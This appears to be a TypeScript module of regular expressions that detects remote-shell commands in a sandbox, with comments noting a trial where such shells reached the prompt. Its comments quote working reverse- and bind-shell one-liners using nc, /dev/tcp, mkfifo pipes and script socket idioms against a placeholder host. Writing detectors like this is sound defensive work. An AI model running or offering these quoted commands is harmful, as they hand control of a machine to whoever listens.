import { INTERP, LOOPBACK, SHELLS, SOCKET_TOOLS } from './injection-parts.js';

/**
 * Remote shells: a shell whose input and output are a network connection, so whoever listens at the other end
 * runs commands in the sandbox (trial 26: `nc -e /bin/sh h 4444` and `bash -i >& /dev/tcp/h/4444 0>&1` reached
 * the prompt). Written by what makes one, not by tool: a socket tool told to run a program, a shell pointed at
 * a socket, a socket and a shell joined by pipes, a script that hands a socket's descriptors to a shell.
 */
export const REMOTE_SHELL_PATTERNS: RegExp[] = [
  // A socket tool told to run a program on the connection: `nc -e /bin/sh`, `ncat -c 'bash -i'`, `nc -nvlp 4444
  // -e cmd.exe` (a bind shell is the same thing the other way round); `nc -z host 5432` runs nothing.
  new RegExp(String.raw`\b${SOCKET_TOOLS}\b[^\n|;&]{0,80}?\s(?:-\w*[ec]|--(?:sh-|lua-)?exec)[=\s]+['"]?(?:\S*\/)?(?:${SHELLS}|${INTERP}|cmd(?:\.exe)?)\b`, 'i'),
  // socat's `EXEC:` / `SYSTEM:` address: a program's stdin and stdout on the other address.
  /\bsocat\b[^\n|;]{0,160}?(?:^|[\s'"])(?:exec|system):/i,
  // A shell's output or input on a socket: `bash -i >& /dev/tcp/h/4444 0>&1`, `sh -i 5<> /dev/tcp/…`, `sh < /dev/tcp/…`.
  // Reading from a socket only as the shell's own stdin (`bash -c "</dev/tcp/db/5432"` is a readiness check).
  new RegExp(String.raw`\b${SHELLS}\b(?:[^\n|;]{0,40}?(?:[0-9]?>&|&>{1,2}|[0-9]?<>)|(?:\s+-\w+)*\s*<)\s*['"]?\/dev\/(?:tcp|udp)\/(?!${LOOPBACK})`, 'i'),
  // A socket and a shell joined by pipes, in either direction: `mkfifo f; cat f | sh -i 2>&1 | nc h 4444 > f`,
  // `nc h 4444 | /bin/sh | nc h 4445`.
  new RegExp(String.raw`\|\s*(?:\S*\/)?${SHELLS}\b[^\n|]{0,40}\|\s*(?:sudo\s+)?${SOCKET_TOOLS}\b|\b${SOCKET_TOOLS}\b[^\n|;&]{0,80}\|\s*(?:sudo\s+)?(?:\S*\/)?(?:${SHELLS}|${INTERP})\b`, 'i'),
  // A script that connects a socket and gives it to a shell: Python's `os.dup2(s.fileno(), 0)` / `pty.spawn`, Perl's
  // `use Socket; … exec("/bin/sh -i")`, PHP's `fsockopen(…); exec("/bin/sh …")`, Ruby's `TCPSocket … exec`.
  new RegExp(String.raw`\b(?:socket|fsockopen|TCPSocket|IO::Socket)\b[^\n]{0,300}?(?:\bdup2\b|\bpty\.spawn\b|\b(?:exec|system|popen|proc_open|spawn)\s*\(?\s*(?:sprintf\s*\(?\s*)?\[?\s*['"](?:\S*\/)?${SHELLS}\b|\bsubprocess\.\w+\(\s*\[?\s*['"](?:\S*\/)?${SHELLS}\b)`, 'i'),
];
